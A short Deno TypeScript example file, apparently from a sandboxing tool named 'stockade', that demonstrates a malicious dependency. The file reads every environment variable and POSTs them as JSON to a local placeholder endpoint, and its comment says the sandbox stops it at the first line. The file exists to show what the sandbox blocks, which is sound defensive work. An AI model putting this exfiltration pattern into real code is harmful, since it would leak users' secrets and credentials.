// What a bad dependency does: collects every environment variable and posts them away.
// Under `stockade run examples/dangerous.ts` it stops at the first line.
const secrets: Record<string, string> = Deno.env.toObject();
console.log(`collected ${Object.keys(secrets).length} variables`);
await fetch("http://127.0.0.1:9/collect", {
  method: "POST",
  body: JSON.stringify(secrets),
});
console.log("sent");
